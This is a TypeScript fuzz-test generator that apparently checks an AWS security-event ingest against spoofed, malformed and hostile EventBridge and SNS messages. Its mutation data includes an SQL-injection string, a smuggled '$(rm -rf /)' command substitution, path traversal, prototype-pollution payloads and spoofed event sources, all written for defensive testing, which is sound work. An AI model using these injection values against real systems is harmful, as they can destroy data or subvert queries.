        // Security Hub writes the account as `AWS::::Account:<id>`; the bare id is accepted too.
        legal,
        present: (d) => has(d, [...SH_RESOURCE, 'Id']),
        key: show([...SH_RESOURCE, 'Id']),
      },
    ];
  },
  // Security Hub's control ids are AWS's catalogue: a made-up one is not an event AWS sends.
  routing: () => [
    {
      path: [...FINDING, 'Compliance', 'SecurityControlId'],
      valid: false,
      append: { valid: false, expect: 'no-start' },
    },
  ],
  freeText: () => [['id'], [...FINDING, 'Title'], [...FINDING, 'Id']],
  typeSwap: (doc) => ({
    path: [...SH_RESOURCE, 'Type'],
    others: ['AwsS3Bucket', 'AwsEc2SecurityGroup', 'AwsAccount', 'AwsIamUser', 'Other'].filter(
      (t) => t !== getAt(doc, [...SH_RESOURCE, 'Type']),
    ),
  }),
  huge: () => [
    { path: [...FINDING, 'Compliance', 'SecurityControlId'], valid: false, expect: 'no-start' },
    { path: [...FINDING, 'Title'], valid: true, expect: 'any' },
    { path: [...FINDING, 'Id'], valid: false, expect: 'no-start' },
    { path: [...SH_RESOURCE, 'Id'], valid: false, expect: 'no-start' },
  ],
  variations: () => [
    {
      label: 'PASSED',
      apply: (d) => setAt(d, [...FINDING, 'Compliance', 'Status'], 'PASSED'),
      expect: 'no-start',
    },
    {
      // ASFF's Compliance is optional (findings of other products have none): nothing to remediate.
      label: 'without Compliance',
      apply: (d) => deleteAt(d, [...FINDING, 'Compliance']),
      expect: 'no-start',
    },
    {
      label: 'workflow SUPPRESSED',
      apply: (d) => setAt(d, [...FINDING, 'Workflow'], { Status: 'SUPPRESSED' }),
      expect: 'no-start',
    },
    {
      label: 'ARCHIVED',
      apply: (d) => setAt(d, [...FINDING, 'RecordState'], 'ARCHIVED'),
      expect: 'no-start',
    },
    {
      // A copy of the first finding, mutations included, about another instance: the event is as good as its
      // first finding, and a made-up second finding cannot rescue or spoil it.
      label: 'second finding for another instance',
      apply: (d, ids) => {
        const findings = getAt(d, ['detail', 'findings']);
        const first = objectAt(d, FINDING);
        if (!Array.isArray(findings) || !first) return;
        const second = structuredClone(first);
        const arn = getAt(first, ['Resources', 0, 'Id']);
        const region = textAt(first, ['Resources', 0, 'Region'], ids.region);
        const other = `i-${ids.hex6}${ids.findingId.slice(0, 11)}`;
        if (
          typeof arn === 'string' &&
          arn === shResourceArn('AwsEc2Instance', region, ids.account, ids.instance)
        ) {
          setAt(second, ['Resources', 0, 'Id'], shResourceArn('AwsEc2Instance', region, ids.account, other));
        }
        if (typeof second.Id === 'string') second.Id = `${second.Id}-2`;
        findings.push(second);
      },
      expect: 'start',
      last: true,
    },
  ],
  freshIds: (doc, ids) => {
    doc.id = ids.eventId;
    setAt(doc, [...FINDING, 'AwsAccountId'], ids.account);
    setAt(doc, [...FINDING, 'Region'], ids.region);
    setAt(doc, [...SH_RESOURCE, 'Region'], ids.region);
    const type = String(getAt(doc, [...SH_RESOURCE, 'Type']));
    const kit = kitTypeOfSecurityHub(type);
    setAt(
      doc,
      [...SH_RESOURCE, 'Id'],
      type === 'AwsAccount'
        ? shResourceArn(type, ids.region, ids.account, ids.account)
        : kit
          ? kit.arn(ids.region, ids.account, kit.fresh(ids))
          : shResourceArn('AwsEc2Instance', ids.region, ids.account, ids.instance),
    );
    setAt(
      doc,
      [...FINDING, 'Id'],
      `arn:aws:securityhub:${ids.region}:${ids.account}:security-control/EC2.8/finding/${ids.eventId}`,
    );
  },
};

const FAMILIES: Record<string, Family> = {
  'aws.config': config,
  'aws.guardduty': guardduty,
  'aws.cloudwatch': cloudwatch,
  'aws.securityhub': securityhub,
};

/** The kit playbooks' event fixtures (their conformance setups name them): each is about a non-compliant resource. */
const KIT_FIXTURES = SETUPS.flatMap((s) => s.events);

/** Fixtures an untouched copy of which must start a remediation under the default policy. */
const ACTIONABLE = new Set([
  ...KIT_FIXTURES,
  'cloudwatch-alarm-high-cpu.json',
  'cloudwatch-alarm-status-check-failed.json',
  'config-ebs-encryption-by-default-noncompliant.json',
  'config-ec2-imdsv2-noncompliant.json',
  'config-restricted-ssh-noncompliant.json',
  'config-s3-bucket-public-read-noncompliant.json',
  'guardduty-ec2-cryptocurrency.json',
  'guardduty-ec2-unauthorized-access.json',
  'guardduty-iam-user-access-key.json',
  'guardduty-s3-block-public-access-disabled.json',
  'guardduty-runtime-reverse-shell.json',
  'securityhub-ec2.8-failed.json',
]);
/** Fixtures that must never start one (they only tell a running execution). */
const NOT_ACTIONABLE = new Set(['config-s3-bucket-public-read-compliant.json']);

interface Fixture {
  readonly name: string;
  readonly doc: Doc;
  readonly family: Family;
  readonly expect: Expectation;
}

function loadFixtures(): Fixture[] {
  return fixtureNames().map((name) => {
    const doc = JSON.parse(fixtureText(name)) as Doc;
    const family = FAMILIES[String(doc.source)];
    if (!family) throw new Error(`fixture ${name}: no family for source ${String(doc.source)}`);
    const expect: Expectation = ACTIONABLE.has(name)
      ? 'start'
      : NOT_ACTIONABLE.has(name)
        ? 'no-start'
        : 'any';
    return { name, doc, family, expect };
  });
}

// ---------------------------------------------------------------------------------------------------------------
// Mutations, drawn by fast-check as plain data and applied here
// ---------------------------------------------------------------------------------------------------------------

type JsonKind = 'string' | 'number' | 'boolean' | 'null' | 'array' | 'object';
const JSON_KINDS: readonly JsonKind[] = ['string', 'number', 'boolean', 'null', 'array', 'object'];

type Mode = 'replace' | 'append' | 'slash';

/** Neutral: AWS could send it; the product must do what it would do without it. */
type Noise =
  | { kind: 'unknown-field'; where: 'top' | 'detail'; key: string; value: Json }
  | { kind: 'proto-key'; where: 'top' | 'detail' }
  | { kind: 'huge-unread'; size: number; chunk: string }
  | { kind: 'deep-unread'; depth: number }
  | { kind: 'flip-unread'; pick: number; to: JsonKind }
  | { kind: 'hostile-unread'; pick: number; value: string }
  | { kind: 'delete-optional'; pick: number }
  | { kind: 'other-envelope-account'; account: string }
  | { kind: 'pretty' }
  | { kind: 'pad-to-limit'; slack: number };

/** Everything else. */
type Hostile =
  | { kind: 'delete-required'; pick: number }
  | { kind: 'flip-type'; pick: number; to: JsonKind; optional: boolean }
  | { kind: 'hostile-identity'; pick: number; value: string; mode: Mode }
  | { kind: 'hostile-routing'; pick: number; value: string; mode: Mode }
  | { kind: 'hostile-free-text'; pick: number; value: string }
  | { kind: 'type-swap'; pick: number }
  | { kind: 'spoof-source'; source: string; detailFrom: number | null }
  | { kind: 'unknown-detail-type'; detailType: string }
  | { kind: 'huge-read'; pick: number; size: number; chunk: string }
  | { kind: 'deep-read'; pick: number; depth: number }
  | { kind: 'bad-envelope-account'; value: string }
  | { kind: 'extra-broken-finding'; value: string }
  | { kind: 'proto-smuggle'; pick: number };

/** Applied to the JSON text at the end; each makes the message invalid. */
type TextMutation =
  | { kind: 'truncate'; at: number }
  | { kind: 'not-an-event'; value: Json }
  | { kind: 'garbage'; text: string }
  | { kind: 'sns-broken'; how: 'truncated-message' | 'object-message' | 'double-wrap' | 'wrong-type' };

interface Plan {
  readonly fixture: number;
  readonly ids: Ids;
  readonly variation: number | null;
  readonly noise: readonly Noise[];
  readonly hostile: readonly Hostile[];
  readonly sns: boolean;
  readonly text: TextMutation | null;
}

const hexChars = fc.constantFrom(...'0123456789abcdef'.split(''));
const hex = (length: number) => fc.string({ unit: hexChars, minLength: length, maxLength: length });
const pooled = <T>(pool: readonly T[], fresh: fc.Arbitrary<T>): fc.Arbitrary<T> =>
  fc.oneof({ weight: 1, arbitrary: fc.constantFrom(...pool) }, { weight: 4, arbitrary: fresh });

const POOL_BUCKETS = Array.from({ length: POOL_SIZE }, (_, i) => `pool-bucket-${i}`);
const POOL_INSTANCES = Array.from(
  { length: POOL_SIZE },
  (_, i) => `i-${(0xfade0 + i).toString(16).padStart(17, '0')}`,
);
const POOL_GROUPS = Array.from(
  { length: POOL_SIZE },
  (_, i) => `sg-${(0xfade0 + i).toString(16).padStart(17, '0')}`,
);
const POOL_KEYS = Array.from({ length: POOL_SIZE }, (_, i) => `AKIAPOOL${String(i).padStart(12, '0')}`);
const POOL_ASGS = Array.from({ length: POOL_SIZE }, (_, i) => `pool-asg-${i}`);

const idsArb: fc.Arbitrary<Ids> = fc.record({
  eventId: fc.uuid(),
  account: fc.constantFrom(...ACCOUNTS),
  region: fc.constantFrom(...REGIONS),
  bucket: pooled(POOL_BUCKETS, fc.stringMatching(/^[a-z0-9][a-z0-9-]{8,30}[a-z0-9]$/)),
  instance: pooled(
    POOL_INSTANCES,
    hex(17).map((h) => `i-${h}`),
  ),
  securityGroup: pooled(
    POOL_GROUPS,
    hex(17).map((h) => `sg-${h}`),
  ),
  accessKey: pooled(
    POOL_KEYS,
    fc.stringMatching(/^[A-Z0-9]{16}$/).map((s) => `AKIA${s}`),
  ),
  asg: pooled(POOL_ASGS, fc.stringMatching(/^[a-z][a-z0-9-]{3,24}$/)),
  findingId: hex(32),
  hex6: hex(6),
});

const hostileValue: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 24 }) },
  {
    weight: 1,
    arbitrary: fc.string({
      unit: fc.constantFrom(
        '\u0000',
        '\u0007',
        '\u001b',
        '\u007f',
        '\u0085',
        '\u200b',
        '\u202e',
        '\ufeff',
        '\ud800',
        '\udc00',
        '"',
        "'",
        '\\',
        '/',
        '$',
        '`',
        '%',
        ':',
        '*',
      ),
      minLength: 1,
      maxLength: 8,
    }),
  },
);
const modeArb = fc.constantFrom<Mode>('replace', 'replace', 'append', 'slash');
const kindArb = fc.constantFrom(...JSON_KINDS);
const pick = fc.noBias(fc.nat());
const hugeChunk = fc.constantFrom('A', "' OR 1=1 --", '\u202e$(rm -rf /)', '../', 'é', '\u0000');

const noiseArb: fc.Arbitrary<Noise> = fc.oneof(
  {
    weight: 12,
    arbitrary: fc.record({
      kind: fc.constant('unknown-field' as const),
      where: fc.constantFrom('top' as const, 'detail' as const),
      key: fc.oneof(fc.string({ maxLength: 12 }), fc.constantFrom(...HOSTILE_STRINGS)),
      value: fc.jsonValue({ maxDepth: 3 }) as fc.Arbitrary<Json>,
    }),
  },
  {
    weight: 4,
    arbitrary: fc.record({
      kind: fc.constant('proto-key' as const),
      where: fc.constantFrom('top' as const, 'detail' as const),
    }),
  },
  {
    weight: 1,
    arbitrary: fc.record({
      kind: fc.constant('huge-unread' as const),
      size: fc.integer({ min: 100_000, max: 200_000 }),
      chunk: hugeChunk,
    }),
  },
  {
    weight: 4,
    arbitrary: fc.record({
      kind: fc.constant('deep-unread' as const),
      depth: fc.integer({ min: 10, max: 1000 }),
    }),
  },
  { weight: 8, arbitrary: fc.record({ kind: fc.constant('flip-unread' as const), pick, to: kindArb }) },
  {
    weight: 8,
    arbitrary: fc.record({ kind: fc.constant('hostile-unread' as const), pick, value: hostileValue }),
  },
  { weight: 8, arbitrary: fc.record({ kind: fc.constant('delete-optional' as const), pick }) },
  {
    weight: 4,
    arbitrary: fc.record({
      kind: fc.constant('other-envelope-account' as const),
      account: fc.stringMatching(/^\d{12}$/),
    }),
  },
  { weight: 4, arbitrary: fc.record({ kind: fc.constant('pretty' as const) }) },
  {
    weight: 1,
    arbitrary: fc.record({
      kind: fc.constant('pad-to-limit' as const),
      slack: fc.integer({ min: 0, max: 2000 }),
    }),
  },
);

const hostileArb: fc.Arbitrary<Hostile> = fc.oneof(
  { weight: 12, arbitrary: fc.record({ kind: fc.constant('delete-required' as const), pick }) },
  {
    weight: 14,
    arbitrary: fc.record({
      kind: fc.constant('flip-type' as const),
      pick,
      to: kindArb,
      optional: fc.boolean(),
    }),
  },
  {
    weight: 24,
    arbitrary: fc.record({
      kind: fc.constant('hostile-identity' as const),
      pick,
      value: hostileValue,
      mode: modeArb,
    }),
  },
  {
    weight: 8,
    arbitrary: fc.record({
      kind: fc.constant('hostile-routing' as const),
      pick,
      value: hostileValue,
      mode: modeArb,
    }),
  },
  {
    weight: 6,
    arbitrary: fc.record({ kind: fc.constant('hostile-free-text' as const), pick, value: hostileValue }),
  },
  { weight: 4, arbitrary: fc.record({ kind: fc.constant('type-swap' as const), pick }) },
  {
    weight: 7,
    arbitrary: fc.record({
      kind: fc.constant('spoof-source' as const),
      source: fc.oneof(
        fc.constantFrom(
          'com.evil.guardduty',
          'aws.guardduty ',
          ' aws.guardduty',
          'AWS.GuardDuty',
          'aws.guardduty\u0000',
          'aws.guardduty.evil',
          'aws.guardduty\n',
          'aws.guard\u200bduty',
          'aws.config ',
          'aws.securityhub\t',
          'aws.cloudwatch/',
          'aws',
          'aws.guardduty', // the real source with another detector's detail: the wrong shape
        ),
        fc.string({ maxLength: 20 }),
      ),
      detailFrom: fc.option(pick, { nil: null }),
    }),
  },
  {
    weight: 5,
    arbitrary: fc.record({
      kind: fc.constant('unknown-detail-type' as const),
      detailType: fc.oneof(
        fc.constantFrom(
          'AWS API Call via CloudTrail',
          'GuardDuty Finding ',
          'guardduty finding',
          'Config Rules Compliance Change\u0000',
          'Security Hub Findings - Custom Action',
          'EC2 Instance State-change Notification',
          'Scheduled Event',
        ),
        fc.string({ maxLength: 40 }),
      ),
    }),
  },
  {
    weight: 1,
    arbitrary: fc.record({
      kind: fc.constant('huge-read' as const),
      pick,
      size: fc.integer({ min: 100_000, max: 200_000 }),
      chunk: hugeChunk,
    }),
  },
  {
    weight: 1,
    arbitrary: fc.record({
      kind: fc.constant('deep-read' as const),
      pick,
      depth: fc.integer({ min: 1000, max: 50_000 }),
    }),
  },
  {
    weight: 2,
    arbitrary: fc.record({
      kind: fc.constant('bad-envelope-account' as const),
      value: fc.oneof(hostileValue, fc.stringMatching(/^\d{1,11}$/), fc.stringMatching(/^\d{13,20}$/)),
    }),
  },
  {
    weight: 2,
    arbitrary: fc.record({ kind: fc.constant('extra-broken-finding' as const), value: hostileValue }),
  },
);

const textArb: fc.Arbitrary<TextMutation> = fc.oneof(
  {
    weight: 6,
    arbitrary: fc.record({
      kind: fc.constant('truncate' as const),
      at: fc.noBias(fc.double({ min: 0, max: 1, noNaN: true })),
    }),
  },
  {
    weight: 2,
    arbitrary: fc.record({
      kind: fc.constant('not-an-event' as const),
      value: fc.jsonValue({ maxDepth: 4 }) as fc.Arbitrary<Json>,
    }),
  },
  {
    weight: 2,
    arbitrary: fc.record({
      kind: fc.constant('garbage' as const),
      text: fc.string({ unit: 'binary', maxLength: 200 }),
    }),
  },
  {
    weight: 2,
    arbitrary: fc.record({
      kind: fc.constant('sns-broken' as const),
      how: fc.constantFrom(
        'truncated-message' as const,
        'object-message' as const,
        'double-wrap' as const,
        'wrong-type' as const,
      ),
    }),
  },
);

/** A quarter of the messages come wrapped in an SNS notification. */
const wrapped = fc.constantFrom(false, false, false, true);

/** Hostile content where AWS allows it, or in ids the oracle judges: the product may start these. */
const hostileTextArb: fc.Arbitrary<Hostile> = fc.oneof(
  fc.record({ kind: fc.constant('hostile-free-text' as const), pick, value: hostileValue }),
  fc.record({
    kind: fc.constant('hostile-routing' as const),
    pick,
    value: hostileValue,
    mode: fc.constant<Mode>('append'),
  }),
  fc.record({ kind: fc.constant('hostile-identity' as const), pick, value: hostileValue, mode: modeArb }),
);

const planArb: fc.Arbitrary<Plan> = fc.oneof(
  // Valid: an untouched fixture with fresh ids, or one of its legal variations.
  {
    weight: 20,
    arbitrary: fc.record({
      fixture: pick,
      ids: idsArb,
      variation: fc.option(pick, { nil: null, freq: 3 }),
      noise: fc.constant([]),
      hostile: fc.constant([]),
      sns: wrapped,
      text: fc.constant(null),
    }),
  },
  // Valid with noise the product does not read.
  {
    weight: 12,
    arbitrary: fc.record({
      fixture: pick,
      ids: idsArb,
      variation: fc.constant(null),
      noise: fc.array(noiseArb, { minLength: 1, maxLength: 1 }),
      hostile: fc.constant([]),
      sns: wrapped,
      text: fc.constant(null),
    }),
  },
  // Hostile text in fields AWS leaves free, or hostile ids: valid or not by the oracle.
  {
    weight: 6,
    arbitrary: fc.record({
      fixture: pick,
      ids: idsArb,
      variation: fc.constant(null),
      noise: fc.constant([]),
      hostile: fc.array(hostileTextArb, { minLength: 1, maxLength: 1 }),
      sns: wrapped,
      text: fc.constant(null),
    }),
  },
  // Hostile.
  {
    weight: 62,
    arbitrary: fc.record({
      fixture: pick,
      ids: idsArb,
      variation: fc.option(pick, { nil: null, freq: 4 }),
      noise: fc.array(noiseArb, { maxLength: 1 }),
      hostile: fc.array(hostileArb, { minLength: 1, maxLength: 3 }),
      sns: wrapped,
      text: fc.option(textArb, { nil: null, freq: 4 }),
    }),
  },
);

// ---------------------------------------------------------------------------------------------------------------
// Building a message from a plan
// ---------------------------------------------------------------------------------------------------------------

function valueOfKind(kind: JsonKind, current: unknown): Json {
  const values: Record<JsonKind, Json> = {
    string: typeof current === 'number' ? String(current) : 'flipped',
    number: 42,
    boolean: true,
    null: null,
    array: [typeof current === 'string' || typeof current === 'number' ? current : 'x'],
    object: { value: typeof current === 'string' || typeof current === 'number' ? current : 'x' },
  };
  return values[kind];
}

function kindOf(value: unknown): JsonKind {
  if (value === null) return 'null';
  if (Array.isArray(value)) return 'array';
  return typeof value as JsonKind;
}

/** Another kind than the value has (for a real type flip). */
function otherKind(wanted: JsonKind, current: unknown): JsonKind {
  const now = kindOf(current);
  if (wanted !== now) return wanted;
  return JSON_KINDS[(JSON_KINDS.indexOf(wanted) + 1) % JSON_KINDS.length] as JsonKind;
}

function choose<T>(items: readonly T[], n: number): T | undefined {
  return items.length === 0 ? undefined : items[n % items.length];
}

function hostileFor(legal: string, value: string, mode: Mode): string {
  if (mode === 'append') return `${legal}${value}`;
  if (mode === 'slash') return `${legal}/${value}`;
  return value;
}

function hugeString(size: number, chunk: string): string {
  return chunk.repeat(Math.ceil(size / chunk.length)).slice(0, size);
}

const DEEP = (depth: number) => `\u0001deep:${depth}\u0001`;
const DEEP_TOKEN = /"\\u0001deep:(\d+)\\u0001"/g;

/** Deep nesting is spliced into the JSON text: building it as objects would overflow JSON.stringify's recursion. */
function expandDeep(text: string): string {
  return text.replace(DEEP_TOKEN, (_, depth: string) => {
    const n = Number(depth);
    return `${'{"a":['.repeat(n)}0${']}'.repeat(n)}`;
  });
}

interface Outcome {
  valid: boolean;
  expect: Expectation;
  labels: string[];
  /** Fields a hostile mutation changed: a later one leaves them alone, so it cannot undo or mask the first. */
  touched: Set<string>;
}

/** Takes `key` for one mutation; false when an earlier one changed it. */
function claim(out: Outcome, key: string): boolean {
  if (out.touched.has(key)) return false;
  out.touched.add(key);
  return true;
}

function restrict(outcome: Outcome, valid: boolean, expect: Expectation, label: string): void {
  outcome.labels.push(label);
  if (!valid) {
    outcome.valid = false;
    outcome.expect = 'no-start';
    return;
  }
  if (!outcome.valid) return;
  if (expect === 'no-start' || outcome.expect === 'no-start') outcome.expect = 'no-start';
  else if (expect === 'any' || outcome.expect === 'any') outcome.expect = 'any';
}

function applyNoise(
  doc: Doc,
  fixture: Fixture,
  noise: Noise,
  out: Outcome,
): { pretty?: boolean; pad?: number } {
  const family = fixture.family;
  const detail = detailOf(doc);
  switch (noise.kind) {
    case 'unknown-field': {
      const target = noise.where === 'top' ? doc : detail;
      // An unknown key must not replace a field the product reads.
      const key = `x-${noise.key}`;
      target[key] = noise.value;
      out.labels.push(`noise: unknown ${noise.where} field ${JSON.stringify(key)}`);
      return {};
    }
    case 'proto-key': {
      // JSON.parse makes "__proto__" an own property; a careless merge would turn it into a prototype.
      const target = noise.where === 'top' ? doc : detail;
      Object.defineProperty(target, '__proto__', {
        value: { polluted: 'yes', detail: { polluted: 'yes' } },
        enumerable: true,
        configurable: true,
        writable: true,
      });
      out.labels.push(`noise: "__proto__" key at ${noise.where}`);
      return {};
    }
    case 'huge-unread':
      detail['x-notes'] = hugeString(noise.size, noise.chunk);
      out.labels.push(`noise: ${noise.size}-character unread field`);
      return {};
    case 'deep-unread':
      detail['x-nested'] = DEEP(noise.depth);
      out.labels.push(`noise: unread field nested ${noise.depth} deep`);
      return {};
    case 'flip-unread': {
      const path = choose(family.unread(doc), noise.pick);
      if (!path) return {};
      setAt(doc, path, valueOfKind(otherKind(noise.to, getAt(doc, path)), getAt(doc, path)));
      out.labels.push(`noise: ${show(path)} (unread) as ${noise.to}`);
      return {};
    }
    case 'hostile-unread': {
      const path = choose(family.unread(doc), noise.pick);
      if (!path) return {};
      setAt(doc, path, noise.value);
      out.labels.push(`noise: ${show(path)} (unread) = ${JSON.stringify(noise.value)}`);
      return {};
    }
    case 'delete-optional': {
      const path = choose(family.optional(doc), noise.pick);
      if (!path) return {};
      deleteAt(doc, path);
      out.labels.push(`noise: without optional ${show(path)}`);
      return {};
    }
    case 'other-envelope-account': {
      // Another account's bus. Only a delegated administrator's bus carries another account's findings, and only
      // GuardDuty's and Security Hub's; the suite's policy names no such administrator, so the ingest refuses it.
      if (noise.account === doc.account) return {};
      doc.account = noise.account;
      const forwardable = fixture.doc.source === 'aws.guardduty' || fixture.doc.source === 'aws.securityhub';
      restrict(
        out,
        forwardable,
        'no-start',
        `noise: envelope account ${noise.account} (another account's bus)`,
      );
      return {};
    }
    case 'pretty':
      out.labels.push('noise: pretty-printed');
      return { pretty: true };
    case 'pad-to-limit':
      out.labels.push(`noise: padded to ${MAX_EVENT_BYTES - noise.slack} bytes`);
      return { pad: MAX_EVENT_BYTES - noise.slack };
  }
}

function applyHostile(
  doc: Doc,
  fixture: Fixture,
  hostile: Hostile,
  fixtures: readonly Fixture[],
  out: Outcome,
): void {
  const family = fixture.family;
  switch (hostile.kind) {
    case 'delete-required': {
      const path = choose(family.required(doc), hostile.pick);
      if (!path || !has(doc, path) || !claim(out, show(path))) return;
      deleteAt(doc, path);
      return restrict(out, false, 'no-start', `without required ${show(path)}`);
    }
    case 'flip-type': {
      const paths = hostile.optional ? family.optional(doc) : family.required(doc);
      const path = choose(paths, hostile.pick);
      if (!path || !has(doc, path) || !claim(out, show(path))) return;
      const current = getAt(doc, path);
      // Another kind than the fixture has there, so that a second flip cannot turn it back.
      const to = otherKind(hostile.to, getAt(fixture.doc, path) ?? current);
      setAt(doc, path, valueOfKind(to, current));
      return restrict(out, false, 'no-start', `${show(path)} as ${to}`);
    }
    case 'hostile-identity': {
      const field = choose(
        family.identity(doc).filter((f) => f.present(doc)),
        hostile.pick,
      );
      if (!field || !claim(out, field.key)) return;
      const value = hostileFor(field.get(doc), hostile.value, hostile.mode);
      if (value === field.get(doc)) return; // appending nothing changes nothing
      field.set(doc, value);
      const legal = field.legal(value);
      return restrict(
        out,
        legal,
        'any',
        `${field.label} = ${JSON.stringify(value).slice(0, 120)}${legal ? ' (legal)' : ''}`,
      );
    }
    case 'hostile-routing': {
      const field = choose(family.routing(doc), hostile.pick);
      if (!field || !has(doc, field.path) || !claim(out, show(field.path))) return;
      const current = textAt(doc, field.path);
      const value = hostileFor(current, hostile.value, hostile.mode);
      setAt(doc, field.path, value);
      const label = `control ${show(field.path)} = ${JSON.stringify(value).slice(0, 120)}`;
      // Another finding of the same event keeps its own control and may start on its own.
      const findings = getAt(doc, ['detail', 'findings']);
      if (Array.isArray(findings) && findings.length > 1) return restrict(out, true, 'any', label);
      // A value made of a control's own characters may still be a legal control name (`restricted-ssh-1`).
      if (/^[A-Za-z0-9-]*$/.test(hostile.value)) return restrict(out, true, 'any', label);
      if (hostile.mode === 'replace') return restrict(out, field.valid, 'no-start', label);
      return restrict(out, field.append.valid, field.append.expect, label);
    }
    case 'hostile-free-text': {
      const path = choose(family.freeText(doc), hostile.pick);
      if (!path || !has(doc, path) || !claim(out, show(path))) return;
      setAt(doc, path, hostile.value);
      return restrict(out, true, 'any', `free text ${show(path)} = ${JSON.stringify(hostile.value)}`);
    }
    case 'type-swap': {
      const swap = family.typeSwap(doc);
      if (!swap || !has(doc, swap.path) || !claim(out, show(swap.path))) return;
      const other = choose(swap.others, hostile.pick) as string;
      if (fixture.doc.source === 'aws.cloudwatch') {
        const dims = objectAt(doc, swap.path) ?? {};
        const [[, value] = ['', '']] = Object.entries(dims);
        setAt(doc, swap.path, { [other]: value });
      } else {
        setAt(doc, swap.path, other);
      }
      return restrict(out, false, 'no-start', `resource type ${show(swap.path)} swapped to ${other}`);
    }
    case 'spoof-source': {
      if (!claim(out, 'source')) return;
      const real = fixture.doc.source;
      const donor = hostile.detailFrom === null ? undefined : choose(fixtures, hostile.detailFrom);
      const foreignDetail = donor !== undefined && donor.doc.source !== real;
      if (foreignDetail) doc.detail = structuredClone(donor.doc.detail);
      doc.source = hostile.source;
      if (hostile.source === real && !foreignDetail) return;
      return restrict(
        out,
        false,
        'no-start',
        `source ${JSON.stringify(hostile.source)}${foreignDetail ? ` with the detail of ${donor.name}` : ''}`,
      );
    }
    case 'unknown-detail-type': {
      if (!claim(out, 'detail-type')) return;
      const real = String(fixture.doc['detail-type']);
      const detailType = hostile.detailType === real ? `${real}.` : hostile.detailType;
      doc['detail-type'] = detailType;
      return restrict(out, false, 'no-start', `detail-type ${JSON.stringify(detailType)}`);
    }
    case 'huge-read': {
      const field = choose(family.huge(doc), hostile.pick);
      if (!field || !has(doc, field.path) || !claim(out, show(field.path))) return;
      setAt(doc, field.path, hugeString(hostile.size, hostile.chunk));
      return restrict(out, field.valid, field.expect, `${show(field.path)} is ${hostile.size} characters`);
    }
    case 'deep-read': {
      // Nesting in place of a scalar or a list: an object in place of an object may be just as good.
      const path = choose(
        family.required(doc).filter((p) => objectAt(doc, p) === undefined),
        hostile.pick,
      );
      if (!path || !has(doc, path) || !claim(out, show(path))) return;
      setAt(doc, path, DEEP(hostile.depth));
      return restrict(out, false, 'no-start', `${show(path)} nested ${hostile.depth} deep`);
    }
    case 'bad-envelope-account': {
      if (!claim(out, 'account')) return;
      doc.account = hostile.value;
      const legal = AWS_SHAPES.account.test(hostile.value);
      return restrict(out, legal, 'any', `envelope account ${JSON.stringify(hostile.value)}`);
    }
    case 'extra-broken-finding': {
      const findings = getAt(doc, ['detail', 'findings']);
      if (!Array.isArray(findings) || findings.length === 0) return;
      const extra = structuredClone(objectAt(findings, [0]) ?? {});
      const type = String(getAt(extra, ['Resources', 0, 'Type']));
      const legal = (SH_TYPES[type] ?? (() => false))(hostile.value);
      setAt(extra, ['Resources', 0, 'Id'], hostile.value);
      findings.push(extra);
      return restrict(out, legal, 'any', `second finding with resource id ${JSON.stringify(hostile.value)}`);
    }
    case 'proto-smuggle': {
      // The field moves into a "__proto__" key of its object: by JSON's meaning it is gone, but code that merged
      // the parsed object into a plain one would find it again through the prototype.
      const path = choose(
        family.required(doc).filter((p) => p.length >= 2 && typeof p[p.length - 1] === 'string'),
        hostile.pick,
      );
      if (!path || !has(doc, path) || !claim(out, show(path))) return;
      const value = getAt(doc, path);
      deleteAt(doc, path);
      const parent = objectAt(doc, path.slice(0, -1));
      if (!parent) return;
      Object.defineProperty(parent, '__proto__', {
        value: { [String(path[path.length - 1])]: value },
        enumerable: true,
        configurable: true,
        writable: true,
      });
      return restrict(out, false, 'no-start', `${show(path)} smuggled into "__proto__"`);
    }
  }
}

function snsWrap(message: string, id: string): string {
  return JSON.stringify({
    Type: 'Notification',
    MessageId: id,
    TopicArn: 'arn:aws:sns:ap-northeast-1:123456789012:forwarded-findings',
    Message: message,
    Timestamp: '2026-11-29T12:00:00.000Z',
    SignatureVersion: '1',
  });
}

function applyText(text: string, mutation: TextMutation, id: string, out: Outcome): string {
  switch (mutation.kind) {
    case 'truncate': {
      // Any proper prefix of a JSON object's text is not JSON.
      const at = Math.min(text.length - 1, Math.floor(mutation.at * text.length));
      restrict(out, false, 'no-start', `truncated at ${at} of ${text.length}`);
      return text.slice(0, at);
    }
    case 'not-an-event':
      restrict(out, false, 'no-start', `not an event: ${JSON.stringify(mutation.value).slice(0, 60)}`);
      return JSON.stringify(mutation.value);
    case 'garbage':
      restrict(out, false, 'no-start', `garbage ${JSON.stringify(mutation.text.slice(0, 40))}`);
      return mutation.text;
    case 'sns-broken': {
      restrict(out, false, 'no-start', `broken SNS wrapper (${mutation.how})`);
      if (mutation.how === 'truncated-message')
        return snsWrap(text.slice(0, Math.floor(text.length / 2)), id);
      if (mutation.how === 'double-wrap') return snsWrap(snsWrap(text, id), id);
      const wrapped = JSON.parse(snsWrap(text, id)) as Doc;
      // The message as an object instead of a string (deeply nested text stays a string: stringify would overflow).
      if (mutation.how === 'object-message' && !text.includes('{"a":[{"a":['))
        wrapped.Message = JSON.parse(text) as unknown;
      else wrapped.Type = 'SubscriptionConfirmation';
      return JSON.stringify(wrapped);
    }
  }
}

function utf8Bytes(text: string): number {
  return Buffer.byteLength(text, 'utf8');
}

/** Pads an unread field so the text is `target` UTF-8 bytes (or as close as the text allows). */
function padTo(doc: Doc, target: number, pretty: boolean): string {
  const detail = detailOf(doc);
  detail['x-padding'] = '';
  const stringify = (): string => expandDeep(JSON.stringify(doc, null, pretty ? 2 : undefined));
  const missing = target - utf8Bytes(stringify());
  detail['x-padding'] = 'p'.repeat(Math.max(0, missing));
  return stringify();
}

function build(plan: Plan, index: number, fixtures: readonly Fixture[]): HostileMessage {
  const fixture = choose(fixtures, plan.fixture) as Fixture;
  const doc = structuredClone(fixture.doc);
  fixture.family.freshIds(doc, plan.ids);
  // EventBridge names the account the event comes from: the resource's own.
  doc.account = plan.ids.account;
  const out: Outcome = { valid: true, expect: fixture.expect, labels: [], touched: new Set() };

  // Noise first, then the variation, then the mutations: neither noise nor a variation can undo a mutation, and
  // noise cannot undo the variation.
  let pretty = false;
  let pad: number | undefined;
  for (const noise of plan.noise) {
    const effect = applyNoise(doc, fixture, noise, out);
    pretty ||= effect.pretty ?? false;
    pad = effect.pad ?? pad;
  }
  const variation =
    plan.variation === null ? undefined : choose(fixture.family.variations(doc), plan.variation);
  if (variation) {
    if (!variation.last) variation.apply(doc, plan.ids);
